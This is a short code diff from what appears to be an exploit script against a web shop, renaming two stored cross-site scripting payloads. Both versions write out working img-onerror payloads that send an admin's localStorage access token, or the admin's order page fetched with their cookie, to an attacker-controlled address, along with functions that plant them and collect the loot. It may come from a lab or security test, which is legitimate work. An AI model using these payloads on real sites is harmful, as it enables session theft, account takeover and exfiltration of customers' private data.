@@ -18,8 +18,8 @@ from loot import ADMIN, Loot, claims_of, encoded, forged, present
 MY_KEY = generate_private_key(SECP256R1())
 MY_PUBLIC_KEY = ECAlgorithm.to_jwk(MY_KEY.public_key(), as_dict=True) | {"alg": "ES256", "kid": "mine"}
 # What we write where the shop may show it to the admin. Nobody has such a picture, so the script runs.
-SENDS_TOKEN = """<img src="" onerror="fetch('%s', {method: 'POST', mode: 'no-cors', body: localStorage.access || ''})">"""
-SENDS_ORDERS = """<img src="" onerror="fetch('/orders/').then(got => got.ok && got.text())
+CARRIES_OUT = """<img src="" onerror="fetch('%s', {method: 'POST', mode: 'no-cors', body: localStorage.access || ''})">"""
+RIDES_ALONG = """<img src="" onerror="fetch('/orders/').then(got => got.ok && got.text())
 .then(body => fetch('%s', {method: 'POST', mode: 'no-cors', body: body || ''}))">"""
 TOKEN = re.compile(r"[\w-]+\.[\w-]+\.[\w-]{20,}")
 
@@ -71,14 +71,14 @@ def token_in_log(loot: Loot) -> requests.Response:
 def script_reads_storage(loot: Loot) -> requests.Response:
     """A script of ours in the admin's page sends us the token that the page keeps in localStorage."""
     with stranger() as ours:
-        leave(loot, SENDS_TOKEN % ours.address)
+        leave(loot, CARRIES_OUT % ours.address)
         return present(loot, ours.holds)
 
 
 def script_rides_along(loot: Loot) -> requests.Response:
     """From an HttpOnly cookie it can read nothing. It asks for the orders, with the cookie, and sends us the response."""
     with stranger() as ours:
-        leave(loot, SENDS_ORDERS % ours.address)
+        leave(loot, RIDES_ALONG % ours.address)
         return requests.get(ours.address, timeout=10) if ours.holds else present(loot, "")
 
 
